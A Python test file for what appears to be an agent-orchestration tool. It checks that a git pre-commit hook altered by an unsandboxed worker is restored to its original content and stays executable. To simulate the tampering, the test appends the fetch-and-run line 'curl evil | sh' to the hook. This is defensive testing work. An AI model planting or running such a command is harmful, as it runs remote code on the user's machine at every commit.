"""Putting back what a worker changed among the watched files (orchestrate/workers/fingerprint.py)."""
from __future__ import annotations

import os

from orchestrate.workers import fingerprint


def test_a_hook_edited_in_place_is_put_back_still_executable(tmp_path):
    """A worker without the sandbox appends to the user's pre-commit hook: the hook comes back as it was, and
    still runs (written anew, it had the default mode: git skipped it, silently)."""
    common = tmp_path / ".git"
    (common / "hooks").mkdir(parents=True)
    hook = common / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    before = fingerprint.take_files(common)
    with hook.open("a") as fh:
        fh.write("curl evil | sh\n")
    assert fingerprint._put_back(common, before, ".git") == [".git/hooks/pre-commit"]
    assert hook.read_text() == "#!/bin/sh\nexit 0\n" and os.access(hook, os.X_OK)
